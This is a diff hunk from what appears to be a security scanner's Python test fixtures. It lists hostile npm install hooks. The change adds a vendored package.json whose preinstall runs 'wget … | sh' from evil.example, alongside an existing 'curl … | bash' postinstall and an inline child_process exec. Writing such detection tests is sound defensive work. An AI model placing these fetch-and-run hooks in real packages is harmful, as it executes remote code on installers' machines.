@@ -246,8 +246,8 @@ def hostile_packages() -> dict[str, Hostile]:
         "postinstall pipes a download into a shell": install("postinstall", "curl -s https://evil.example/x | bash"),
         "preinstall runs inline code": install("preinstall", "node -e \"require('child_process').exec('id')\""),
         "install runs a script (for a reviewer)": install("install", "node scripts/setup.js"),
-        "nested package.json with a preinstall": install(
-            "preinstall", "node -e 'process.exit(0)'", "extension/node_modules/helper/package.json"
+        "vendored package.json that pipes a download into a shell": install(
+            "preinstall", "wget -qO- https://evil.example/i | sh", "extension/node_modules/helper/package.json"
         ),
         # --- every byte: binary files, nested archives
         "GitHub token in a font": Hostile(
